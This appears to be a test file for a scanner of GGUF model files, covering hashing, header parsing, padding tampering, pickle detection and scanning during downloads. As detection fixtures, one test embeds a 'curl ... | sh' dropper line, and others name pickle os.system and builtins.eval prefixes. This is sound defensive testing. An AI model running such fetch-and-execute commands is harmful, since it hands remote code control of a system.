// The one pass: the same report whatever the chunk size and whether the SHA-256 runs on a worker
// thread, and a digest equal to a plain SHA-256.
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { encodeGguf, gguf } from '../../../test/support/gguf-writer.js';
import { tinyModelBytes, tinyModelDocument } from '../../../test/support/tiny-model.js';
import { parseGgufHeader } from './gguf-parser.js';
import { startDigestThread } from './digest-thread.js';
import { ArtifactChangedError, scanArtifact, type FollowedFile } from './one-pass-scan.js';
import { detectPickle } from './stream-consumer.js';
import { Reason } from './verdict.js';

let dir: string;
beforeAll(() => (dir = mkdtempSync(join(tmpdir(), 'one-pass-'))));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function write(name: string, bytes: Buffer): string {
  const path = join(dir, name);
  writeFileSync(path, bytes);
  return path;
}

it('reports the same facts for every chunk size, in the calling thread and with a worker', async () => {
  const bytes = tinyModelBytes();
  const path = write('tiny.gguf', bytes);
  const reports = [];
  for (const [chunkBytes, workerThresholdBytes, slots] of [[4 << 20, Infinity, 8], [4096, Infinity, 8], [1000, Infinity, 2], [4 << 20, 0, 8], [3000, 0, 2], [1000, 0, 3]] as const) {
    const report = await scanArtifact(path, { chunkBytes, workerThresholdBytes, slots });
    expect(report.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    expect(report.weights.length).toBeGreaterThan(0);
    expect(report.entropy.map((e) => e.name)).toEqual(['start']);
    expect(report.header).toMatchObject({ status: 'ok', version: 3, tensorCount: 21, keyCount: 22 });
    expect(report.patterns).toEqual([]);
    expect(report.layout).toBeUndefined();
    expect(report.paddingNotZeroAt).toBeUndefined();
    reports.push({ ...report, durationMs: 0 });
  }
  for (const r of reports.slice(1)) expect(r).toEqual(reports[0]);
}, 30_000);

it('takes over a SHA-256 thread started ahead, and ends one a small file does not need', async () => {
  const bytes = tinyModelBytes();
  const path = write('ahead.gguf', bytes);
  const expected = createHash('sha256').update(bytes).digest('hex');
  for (const workerThresholdBytes of [0, Infinity]) {
    const digestThread = startDigestThread();
    const exited = once(digestThread, 'exit');
    expect((await scanArtifact(path, { digestThread, workerThresholdBytes, chunkBytes: 4096 })).sha256).toBe(expected);
    await exited;
  }
  const ended = startDigestThread();
  await ended.terminate();
  await expect(scanArtifact(path, { digestThread: ended, workerThresholdBytes: 0 })).rejects.toThrow(/ended before the scan/);
}, 30_000);

it('parses a header larger than a chunk (a 150,000-token vocabulary)', async () => {
  const doc = tinyModelDocument();
  doc.kv.push({ key: 'tokenizer.ggml.merges', value: gguf.strings(Array.from({ length: 150_000 }, (_, i) => `tok${i} en${i}`)) });
  const path = write('vocab.gguf', encodeGguf(doc));
  const report = await scanArtifact(path, { chunkBytes: 256 * 1024 });
  expect(report.header).toMatchObject({ status: 'ok', keyCount: 23 });
  expect(report.header.status === 'ok' && report.header.headerBytes).toBeGreaterThan(2_000_000);
  expect(report.layout).toBeUndefined();
  expect(report.weights.length).toBeGreaterThan(0);
});

it('notices non-zero alignment padding', async () => {
  const bytes = tinyModelBytes();
  const parsed = parseGgufHeader(bytes, bytes.length);
  if (parsed.status !== 'ok') throw new Error('bad model');
  expect(parsed.header.dataOffset).toBeGreaterThan(parsed.header.headerBytes);
  const tampered = Buffer.from(bytes);
  tampered[parsed.header.dataOffset - 1] = 0x41;
  const report = await scanArtifact(write('padding.gguf', tampered));
  expect(report.paddingNotZeroAt).toBe(parsed.header.dataOffset - 1);
});

it('still hashes and scans every byte of a file whose header is invalid', async () => {
  const bytes = Buffer.concat([Buffer.from('NOTGGUF!'), Buffer.from('\ncurl http://203.0.113.7/x | sh\n')]);
  const report = await scanArtifact(write('invalid.gguf', bytes));
  expect(report.header).toMatchObject({ status: 'invalid', reason: Reason.BadMagic });
  expect(report.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
  expect(report.patterns.map((p) => p.reason)).toEqual([Reason.ShellDropper]);
  expect(report.weights).toEqual([]);
});

it('scans an empty file without failing', async () => {
  const report = await scanArtifact(write('empty.gguf', Buffer.alloc(0)));
  expect(report).toMatchObject({ sizeBytes: 0, header: { status: 'invalid', reason: Reason.HeaderTruncated } });
});

it.each([
  [Buffer.from([0x80, 0x04, 0x95, 0x00]), 'pickle protocol 4'],
  [Buffer.from('cos\nsystem\n'), 'pickle GLOBAL os'],
  [Buffer.from('cbuiltins\neval\n'), 'pickle GLOBAL builtins'],
  [Buffer.from('GGUF\x03\x00\x00\x00'), undefined],
])('detects pickle prefixes: %j', (bytes, found) => {
  expect(detectPickle(bytes)).toBe(found);
});

describe('a file still being written (a download the scan follows)', () => {
  /** Appends `bytes` in pieces; `stopAt` gives up there. available/complete answer as the writer goes. */
  function grow(path: string, bytes: Buffer, piece: number, stopAt = bytes.length): FollowedFile {
    writeFileSync(path, Buffer.alloc(0));
    let written = 0;
    const done = (async () => {
      while (written < stopAt) {
        const n = Math.min(piece, stopAt - written);
        appendFileSync(path, bytes.subarray(written, written + n));
        written += n;
        await new Promise((r) => setImmediate(r));
      }
      if (written < bytes.length) throw new Error('the writer gave up');
    })();
    done.catch(() => undefined);
    return {
      sizeBytes: bytes.length,
      available: async (end) => {
        while (written < end) {
          if (written >= stopAt) throw new Error('the writer gave up');
          await new Promise((r) => setImmediate(r));
        }
      },
      complete: () => done,
    };
  }

  it('reports what the pass over the finished file reports, reading nothing not yet written', async () => {
    const bytes = tinyModelBytes();
    const whole = await scanArtifact(write('whole.gguf', bytes), { chunkBytes: 4096 });
    for (const workerThresholdBytes of [Infinity, 0]) {
      const path = join(dir, `growing-${workerThresholdBytes}.gguf`);
      const followed = await scanArtifact(path, { chunkBytes: 4096, workerThresholdBytes, follow: grow(path, bytes, 1000) });
      expect({ ...followed, durationMs: 0 }).toEqual({ ...whole, durationMs: 0 });
    }
  });

  it('fails when the writer stops short, and when the file is not the size it was to reach', async () => {
    const bytes = tinyModelBytes();
    const short = join(dir, 'short.gguf');
    await expect(scanArtifact(short, { chunkBytes: 4096, follow: grow(short, bytes, 1000, 5000) })).rejects.toThrow(/gave up/);
    const longer = join(dir, 'longer.gguf');
    const follow = grow(longer, Buffer.concat([bytes, Buffer.alloc(10)]), 1000);
    await expect(scanArtifact(longer, { chunkBytes: 4096, follow: { ...follow, sizeBytes: bytes.length } })).rejects.toThrow(ArtifactChangedError);
  });
});
